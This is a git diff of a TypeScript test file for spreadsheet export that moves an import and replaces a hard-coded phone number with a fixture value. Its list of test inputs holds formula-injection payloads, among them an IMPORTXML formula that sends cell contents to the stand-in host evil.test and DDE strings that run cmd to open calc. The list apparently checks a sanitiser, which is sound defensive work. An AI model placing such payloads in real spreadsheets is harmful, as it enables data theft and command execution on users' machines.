@@ -1,13 +1,13 @@
 import { strFromU8, unzipSync } from 'fflate';
 import readXlsxFile from 'read-excel-file/universal';
 import { describe, expect, it } from 'vitest';
-import { readWorkbook } from '@/lib/sheets/read-workbook';
 import { safeText, withoutGuard } from '@/lib/sheets/safe-text';
 import { writeWorkbook } from '@/lib/sheets/write-workbook';
 import type { ListColumn } from '@/ui/table/column';
 import { safeFileName } from '@/ui/table/xlsx/safe-file-name';
 import { sheetInWork } from '@/ui/table/xlsx/sheet';
 import { writeXlsx } from '@/ui/table/xlsx/write-xlsx';
+import { readWorkbook } from '../../../lib/sheets/first-sheet';
 import { PEOPLE } from '../../../people';
 
 interface Line {
@@ -55,7 +55,7 @@ const PAYLOADS = [
   '=IMPORTXML(CONCAT("https://evil.test/",A1),"//a")',
   "@SUM(1+9)*cmd|' /C calc'!A0",
   '+1+1',
-  '+86 13800000001',
+  `+86 ${PEOPLE.张建国.sjhm}`,
   '-1+1',
   "-2+3+cmd|' /C calc'!D2",
   '\t=1+1',
